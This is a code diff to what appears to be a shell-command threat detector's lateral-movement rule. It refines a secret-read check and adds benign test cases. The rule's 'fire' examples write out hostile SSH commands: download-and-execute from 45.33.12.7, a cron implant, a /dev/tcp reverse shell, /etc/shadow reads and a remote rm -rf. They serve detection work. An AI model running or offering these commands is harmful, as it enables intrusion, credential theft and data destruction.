@@ -1,6 +1,6 @@
 import { ruleAnalyzer, hasArg, hasShortFlag, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
-import { OUTPUT_OPTIONS, smbUploads } from '../facts.js';
+import { OUTPUT_OPTIONS, printsNoContent, smbUploads } from '../facts.js';
 import { canonicalPath, classifyPath, hiddenInTemp, inTemp, isStagingPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
@@ -111,7 +111,8 @@ export function splitScript(text: string, depth = 0, out: Cmd[] = []): Cmd[] {
 }
 
 const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'python', 'python3', 'perl', 'ruby', 'node', 'php', 'iex', 'pwsh', 'powershell']);
-const NOT_READERS = new Set(['echo', 'printf', 'ls', 'stat', 'test', '[', 'chmod', 'chown', 'touch', 'mkdir', 'ssh-keygen', 'which', 'man', 'find', 'du', 'wc']);
+// install puts a file in place on that host (`install -m 0600 /root/wg0.conf /etc/wireguard/`): it shows nothing
+const NOT_READERS = new Set(['echo', 'printf', 'ls', 'stat', 'test', '[', 'chmod', 'chown', 'chgrp', 'touch', 'mkdir', 'ssh-keygen', 'which', 'man', 'find', 'du', 'wc', 'install']);
 
 /**
  * System, data and home trees whose recursive removal on every host is an outage, not a cleanup: a tree
@@ -146,10 +147,11 @@ function payloadOf(cmds: readonly Cmd[]): string | undefined {
       if (k?.role === 'exec-location' && implant()) return `writes ${k.label}: ${line} ${r.op} ${r.target}`;
     }
     if (c.name === 'tee') { const k = c.argv.slice(1).map((a) => classifyPath(a)).find((x) => x?.role === 'exec-location'); if (k && implant()) return `writes ${k.label}: ${line}`; }
-    if (!NOT_READERS.has(c.name)) {
+    // a count or a list of matching names shows no content (`grep -c ^DB_PASSWORD= db.env`); a script handed to a shell is not a path
+    if (!NOT_READERS.has(c.name) && !printsNoContent(c)) {
       // `openssl req -keyout k.pem` writes the key it names
       const outputs = OUTPUT_OPTIONS[c.name];
-      const secret = c.argv.find((a, k) => k > 0 && !a.startsWith('-') && !outputs?.has(c.argv[k - 1]!) && a.length < 1024 && classifyPath(a)?.role === 'secret');
+      const secret = c.argv.find((a, k) => k > 0 && !a.startsWith('-') && !outputs?.has(c.argv[k - 1]!) && a.length < 1024 && !/\s/.test(a) && classifyPath(a)?.role === 'secret');
       if (secret) return `reads ${classifyPath(secret)!.label}: ${line}`;
     }
     if (c.name === 'curl' || c.name === 'wget') {
@@ -354,7 +356,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-001', name: 'ssh-runs-payload-on-remote-host', score: 85, tactic: 'lateral_movement', technique: 'T1021.004', strong: true,
     message: 'Runs a download-and-execute, reverse shell, credential read or implant on another host over SSH', why: 'Using SSH access to fetch and run code, read secrets or plant keys on a second machine is how an intrusion spreads.',
     check: remotePayload(SSH_LIKE),
-    examples: { fire: ["ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'", "ssh ops@ci-runner-02 'sudo find / -xdev -user jlaine -not -path \"/home/jlaine/*\" 2>/dev/null | head -40'"] },
+    examples: { fire: ["ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh root@tools-01 'install -m 0600 /root/wg0.conf /etc/wireguard/wg0.conf && rm /root/wg0.conf'", "bw get password 'inventory-db prod' | ssh app-03 'sudo sh -c \"umask 027; (printf DB_PASSWORD=; cat; echo) > /etc/inventory/db.env\" && sudo chgrp deploy /etc/inventory/db.env'", "ssh app-03 'sudo grep -c ^DB_PASSWORD= /etc/inventory/db.env'", "ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'", "ssh ops@ci-runner-02 'sudo find / -xdev -user jlaine -not -path \"/home/jlaine/*\" 2>/dev/null | head -40'"] },
   },
   {
     id: 'PX-LATERAL-002', name: 'container-exec-runs-payload', score: 85, tactic: 'lateral_movement', technique: 'T1609', strong: true,
